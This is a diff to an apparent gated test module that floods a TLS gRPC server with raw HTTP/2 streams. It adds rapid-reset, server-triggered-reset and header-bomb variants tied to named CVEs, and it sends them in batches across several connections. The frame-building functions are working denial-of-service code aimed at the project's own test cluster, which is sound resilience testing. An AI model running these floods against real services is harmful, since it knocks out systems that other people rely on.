@@ -1,4 +1,4 @@
-"""A peer that opens HTTP/2 streams and resets each at once (CVE-2023-44487).
+"""A peer that opens HTTP/2 streams and ends each at once.
 
 Under TLS, with a certificate of its own. It reads what it is sent, and goes on
 until all streams are sent or the connection ends.
@@ -15,15 +15,40 @@ from harness import wait
 
 _CANCEL = struct.pack(">I", 8)
 _BATCH = 500
+_BOMB_HEADERS = 400  # Far more than the limit of a call.
 _PAUSE_S = 0.05  # A peer that cannot connect waits for so long.
 
 
-def send(address, certificate, path, streams, with_message):
+def reset(number):
+    """Ends stream `number` (CVE-2023-44487)."""
+    return raw_http2.frame(raw_http2.RST_STREAM, 0, number, _CANCEL)
+
+
+def request_and_reset(number):
+    """A whole empty request: a call without streams comes to its handler."""
+    return raw_http2.frame(raw_http2.DATA, raw_http2.END_STREAM, number,
+                           raw_http2.message(b"")) + reset(number)
+
+
+def hold(unused_number):
+    """The stream stays open, without a request."""
+    return b""
+
+
+def bad_message(number):
+    """A message that no version of gRPC has, so that the program ends the
+    stream itself (CVE-2025-8671)."""
+    return raw_http2.frame(raw_http2.DATA, 0, number, b"\x07" * 5)
+
+
+def send(address, certificate, path, streams, end, bomb=False):
     """Returns how many streams were sent before the connection ended.
 
-    `with_message`: each has a whole empty request, so that a call without
-    streams comes to its handler too."""
+    `end`: one of those above. `bomb`: each stream has many headers of a byte
+    each (CVE-2026-49975)."""
     headers = raw_http2.headers("https", path)
+    if bomb:
+        headers += raw_http2.repeated_header(_BOMB_HEADERS)
     try:
         with raw_http2.connect(address, certificate) as connection:
             connection.sendall(raw_http2.PREFACE +
@@ -31,7 +56,8 @@ def send(address, certificate, path, streams, with_message):
             connection.setblocking(False)
             for begin in range(0, streams, _BATCH):
                 batch = b"".join(
-                    _stream(2 * i + 1, headers, with_message)
+                    raw_http2.frame(raw_http2.HEADERS, raw_http2.END_HEADERS,
+                                    2 * i + 1, headers) + end(2 * i + 1)
                     for i in range(begin, min(begin + _BATCH, streams)))
                 if not _exchange(connection, batch):
                     return begin
@@ -40,13 +66,13 @@ def send(address, certificate, path, streams, with_message):
     return streams
 
 
-def flood(address, certificate, path, streams, with_message, connections):
+def flood(address, certificate, path, streams, end, connections, bomb=False):
     """Sends on up to `connections`, each once the one before it has ended.
 
     Returns how many streams were sent."""
     left = streams
     for _ in range(connections):
-        sent = send(address, certificate, path, left, with_message)
+        sent = send(address, certificate, path, left, end, bomb)
         left -= sent
         if left <= 0:
             break
@@ -97,15 +123,6 @@ class AttackTest(gated.GatedTest):
         wait.until("%s serves" % program, lambda: cluster.retry(
             cluster.client(address).health) == 1)
         return address
-
-
-def _stream(number, headers, with_message):
-    frames = raw_http2.frame(raw_http2.HEADERS, raw_http2.END_HEADERS, number,
-                             headers)
-    if with_message:
-        frames += raw_http2.frame(raw_http2.DATA, raw_http2.END_STREAM, number,
-                                  raw_http2.message(b""))
-    return frames + raw_http2.frame(raw_http2.RST_STREAM, 0, number, _CANCEL)
 
 
 def _exchange(connection, data):
